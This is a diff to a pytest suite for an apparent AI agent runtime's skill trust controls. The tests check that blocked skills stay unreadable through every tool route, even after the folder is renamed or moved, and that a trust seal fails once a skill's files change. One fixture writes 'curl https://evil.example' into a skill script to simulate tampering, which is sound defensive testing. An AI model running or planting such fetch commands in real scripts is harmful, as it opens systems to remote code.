@@ -11,6 +11,7 @@ import pytest
 from leeward.memory.audit import event_of
 from leeward.runtime.config import set_trusted
 from leeward.runtime.conversation.skills import skill_store
+from leeward.runtime.exits import CliError
 from leeward.runtime.slash import dispatch, parse
 from leeward.security.call import Status, ToolCall
 from leeward.security.gates import permissions
@@ -37,12 +38,17 @@ def made(parent: Path, *lines, name="review", body=BODY) -> Path:
 def opened(sessions, tmp_path):
     """A session with a skill of the person's own, at a level."""
 
-    def opened(*lines, level=None, **options):
+    def opened(*lines, level=None, lies=None, **options):
         where = sessions.places(tmp_path.resolve())
         own = where.config / "skills"
         folder = own / "review" if (own / "review").exists() else made(own, *lines)
         if level is not None:
             skill_store(where).set(folder, read_skill(folder).digest, level)
+        if lies is not None:
+            target = lies(where)
+            target.parent.mkdir(parents=True, exist_ok=True)
+            folder.rename(target)
+            set_trusted(where.data, where.workspace, True)
         return sessions.session(tmp_path, **options)
 
     return opened
@@ -110,23 +116,35 @@ async def test_a_changed_byte_quarantines_in_the_middle_of_a_session(opened):
         assert Origin.WEB in runtime.pipeline.session.labels
 
 
+LIES = {
+    "where it was": None,
+    "renamed": lambda where: where.config / "skills/other",
+    "moved": lambda where: where.workspace / ".agents/skills/review",
+}
+
+
+@pytest.mark.parametrize("lies", LIES.values(), ids=LIES)
 @pytest.mark.parametrize("way", ["load_skill", "file", "slash", "read", "grep", "shell", "prompt"])
-async def test_a_blocked_skill_is_read_by_no_way(sessions, opened, tmp_path, way):
+async def test_a_blocked_skill_is_read_by_no_way(sessions, opened, tmp_path, way, lies):
     says = ["hi"]
     answers = sessions.Answers(*sessions.YES)
-    async with opened(level=TrustLevel.BLOCKED, approver=answers, says=says, trial="auto") as runtime:
-        file = runtime.places.config / "skills/review/SKILL.md"
+    where = sessions.places(tmp_path.resolve())
+    options = {"level": TrustLevel.BLOCKED, "lies": lies, "approver": answers, "says": says, "trial": "auto"}
+    async with opened(**options) as runtime:
+        folder = lies(where) if lies else where.config / "skills/review"
+        file, name = folder / "SKILL.md", folder.name
+        assert file.exists()
         if way == "prompt":
             await runtime.turn("go")
             text = runtime.provider.requests[0].messages[0].text
         elif way == "slash":
-            with pytest.raises(Exception, match="blocked"):
-                await type_in(runtime, "/skill review")
+            with pytest.raises(CliError):
+                await type_in(runtime, f"/skill {name}")
             text = ""
         else:
             calls = {
-                "load_skill": ("load_skill", {"name": "review"}),
-                "file": ("load_skill", {"name": "review", "file": "scripts/run.sh"}),
+                "load_skill": ("load_skill", {"name": name}),
+                "file": ("load_skill", {"name": name, "file": "scripts/run.sh"}),
                 "read": ("read", {"path": str(file)}),
                 "grep": ("grep", {"pattern": ".", "path": str(file.parent)}),
                 "shell": ("shell", {"command": f"cat {file}"}),
@@ -280,6 +298,29 @@ async def test_an_allowed_tool_that_is_taken_for_a_permission_is_caught(planted,
         action = await runtime.pipeline.judge.read(ToolCall("c", "write", '{"path": "x", "content": "x"}'))
         assert isinstance(wrong(action, runtime.pipeline.session), Allow)
         assert isinstance(permissions(action, runtime.pipeline.session), Ask)
+
+
+def test_a_skill_is_raised_by_the_seal_it_was_shown_with(leeward):
+    folder = made(leeward.home / ".config/leeward/skills")
+
+    def trust(level, *seal):
+        ran = leeward("skills", "trust", "review", level, *seal)
+        return ran.code, ran.out + ran.err
+
+    def shown():
+        return re.search(r"--seal ([0-9a-f]{20}) raises", leeward("skills", "show", "review").out)[1]
+
+    assert trust("trusted")[0] == 2
+    seal = shown()
+    (folder / "scripts/run.sh").write_text("curl https://evil.example")
+    code, said = trust("trusted", "--seal", seal)
+    assert code == 2 and "changed since you were shown it" in said
+    assert "quarantined" in leeward("skills", "list").out
+    assert trust("verified", "--seal", shown())[0] == 0
+    assert "verified" in leeward("skills", "list").out
+    assert trust("quarantined")[0] == trust("blocked")[0] == 0
+    folder.rename(folder.with_name("other"))
+    assert "blocked" in leeward("skills", "list").out
 
 
 def test_the_example_in_the_guide_is_what_happens(leeward):
